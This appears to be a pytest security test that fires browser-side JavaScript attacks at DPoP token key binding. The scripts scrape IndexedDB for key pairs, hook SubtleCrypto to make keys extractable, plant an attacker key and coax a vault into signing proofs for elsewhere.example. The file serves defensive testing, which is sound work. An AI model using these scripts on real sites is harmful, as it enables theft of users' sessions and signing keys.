"""Tokens are bound to a key (RFC 9449), and a script wants that key: it searches every store, makes keys extractable
before they are created, puts its own key where the session's could be stored, and asks the vault and the door to sign
its text.
"""

import base64
import json
import re

import pytest
from joserfc import jws
from joserfc.jwk import ECKey

from tests.attacks.speech import STORES, VAULT, said
from tests.attacks.subjects import OURS

WISH = "https://elsewhere.example/"  # the URL that the attacker wants a proof for
PROOF = re.compile(r"[\w-]{20,}\.[\w-]{20,}\.[\w-]{80,}", re.ASCII)

# `prove(pair)`: a proof for the attacker's URL. `pairs(value)`: the key pairs in a value, at any depth.
PROVE = """
const encode = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes)))
  .replace(/[+]/g, "-").replace(/[/]/g, "_").replace(/=/g, "");
const text = (value) => encode(new TextEncoder().encode(JSON.stringify(value)));
const prove = async ({ privateKey, publicKey }) => {
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", publicKey);
  const signed = `${text({ typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } })}.${
    text({ jti: crypto.randomUUID(), htm: "GET", htu: WISH, iat: Math.floor(Date.now() / 1000) })}`;
  const how = { name: "ECDSA", hash: "SHA-256" };
  return `${signed}.${encode(await crypto.subtle.sign(how, privateKey, new TextEncoder().encode(signed)))}`;
};
const pairs = (value, depth = 4) => {
  if (!value || typeof value !== "object" || !depth) return [];
  if (value.privateKey instanceof CryptoKey && value.publicKey instanceof CryptoKey) return [value];
  return Object.values(value).flatMap((each) => pairs(each, depth - 1));
};
"""

# 1: use keys that are in a store, and export them if possible.
LOOK = said(
    f"const WISH = {WISH!r};",
    STORES,
    PROVE,
    """
  const values = [], found = [];
  await stores(async (store) => values.push(...await done(store.getAll())));
  for (const pair of pairs([...values, globalThis.__GOSSAMER__, history.state])) {
    found.push(await prove(pair), await crypto.subtle.exportKey("jwk", pair.privateKey).then(evil.write, String));
  }
  return [`looked in ${values.length} records`, ...found];""",
)

# 2: before the page's own scripts, make all keys extractable, and use each one that is created.
BEFORE = f"""(known) => {{
  const WISH = {WISH!r};
  {PROVE}
  const {{ note }} = evil, {{ generateKey }} = SubtleCrypto.prototype;
  SubtleCrypto.prototype.generateKey = async function (how, open, uses) {{
    const pair = await generateKey.call(this, how, true, uses);
    if (pair.privateKey) note(await prove(pair));
    return pair;
  }};
  for (const name of ["sign", "importKey", "wrapKey"]) evil.hook(SubtleCrypto.prototype, name);
  for (const name of ["put", "add"]) evil.hook(IDBObjectStore.prototype, name);
  note("keys are watched");
}}"""

# 3: before the visitor signs in, store the attacker's key under every name that the session's key could have.
PLANT = said(
    STORES,
    """
  const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
  for (const [base, table] of [["oidc", "dpop"], ["gossamer", "keys"], ["gossamer-vault", "dpop"]]) {
    const open = indexedDB.open(base);
    open.onupgradeneeded = () => open.result.createObjectStore(table);
    const made = await done(open);
    made.close();
  }
  await stores(async (store) => {
    for (const name of [known.client, known.issuer, known.site, "key", "keys", "dpop", "pair", "session"]) {
      await done(store.put({ keys: pair, privateKey: pair.privateKey, publicKey: pair.publicKey }, name));
    }
  });
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
  return JSON.stringify({ kty, crv, x, y });""",
)

# 4: ask the vault to sign, by names of operations that it might know, and to send a proof with a call.
ASK = said(
    f"const WISH = {WISH!r};",
    VAULT,
    """
  const claims = { htm: "GET", htu: WISH, url: WISH, path: WISH, method: "GET", nonce: "x", ath: "x" };
  for (const op of ["sign", "prove", "proof", "dpop", "dpop_key", "key", "jwk", "export_pair", "export", "keep", "claim"]) {
    await ask(op, { ...claims, args: [claims], params: claims }, [], 3);
  }
  for (const path of ["/invoices", WISH, `//${new URL(WISH).host}/`, `/@${new URL(WISH).host}/`, `/..//${new URL(WISH).host}/`]) {
    for (const more of [{}, { DPoP: "x" }, { dpop: "x", "x-htu": WISH }, { "DPoP-Nonce": WISH }]) {
      await ask("fetch", { api: "billing", path, method: "GET", headers: more, htu: WISH, dpop: { htu: WISH } }, [], 3);
    }
  }
  for (const params of [{ dpop_jkt: "x".repeat(43) }, { prompt: "none" }]) {
    await ask("login", { mode: "redirect", params, return_to: "/", api: "" }, [], 3);
  }
  return heard;""",
)

# 5: ask the door for the record that the vault has just given it, which contains a key.
DOOR = said(
    """
  const said = [], states = ["", "own", "x"];
  for (const name of ["keep", "claim", "leave/", "done/"]) for (const method of ["GET", "POST", "PUT"]) {
    const body = method === "GET" ? undefined : JSON.stringify({ handle: "x", states, address: known.site, state: "own" });
    for (const mode of ["same-origin", "cors"]) {
      await fetch(known.callback + name, { method, mode, body, cache: "default", redirect: "manual" })
        .then(async (answer) => said.push(name, answer.status, await answer.text()), (error) => said.push(String(error)));
    }
  }
  for (const each of await navigator.serviceWorker.getRegistrations()) {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => said.push(data);
    for (const data of ["claim", { op: "claim", states }, { handle: "x", states }, ["keep"]]) {
      each.active.postMessage(data, [...(data === "claim" ? [port2] : [])]);
    }
  }
  await new Promise((ready) => setTimeout(ready, 500));
  return said.map(evil.write);"""
)


def act(scene):
    visitor, subject = scene.visitor, scene.subject
    visitor.go(subject.url + "/")
    planted = json.loads(scene.run(PLANT))
    subject.sign_in(visitor)
    scene.collect()
    scene.run(LOOK)
    if subject.name == OURS:
        scene.run(ASK)
        scene.run(DOOR)
    scene.collect()
    judge(scene, ECKey.import_key(planted).thumbprint())


def judge(scene, planted):
    """Judge the loot.

    A key is stolen if tokens are bound to the attacker's key, or if it signed the attacker's text.
    """
    bound = {each["jkt"] for each in issued(scene.subject)}
    assert bound, "no token is bound to a key"
    if planted in bound:
        scene.won.append("key (the attacker's own)")
    for found in PROOF.findall(scene.outcome().loot):
        if signer(found) in bound:
            scene.won.append("key (signed what it was told)")


def issued(subject):
    """Return the confirmation claims (RFC 7800) of the access tokens that the provider issued."""
    tokens = [value for value, kind in subject.provider.secrets().items() if kind == "access_token"]
    claims = [json.loads(opened(each.split(".")[1])) for each in tokens]
    return [each["cnf"] for each in claims if "cnf" in each]


def signer(proof):
    """Return the thumbprint of the key that signed a proof for the attacker's URL, or ""."""
    try:
        key = ECKey.import_key(json.loads(opened(proof.split(".")[0]))["jwk"])
        wished = json.loads(jws.deserialize_compact(proof, key, algorithms=["ES256"]).payload)["htu"] == WISH
        return key.thumbprint() if wished else ""
    except Exception:  # looks like a proof, but is not one
        return ""


def opened(part):
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def test_page_held(assault, page_held_bound):
    stolen = assault(page_held_bound).stolen
    assert "key (the attacker's own)" in stolen and "key (signed what it was told)" in stolen


@pytest.mark.standards("TX-05")
def test_ours(assault, ours_bound):
    outcome = assault(ours_bound)
    for tried in ("keys are watched", "looked in 24 records", "/callback/leave/"):
        assert tried in outcome.loot
    assert outcome.stolen == ()
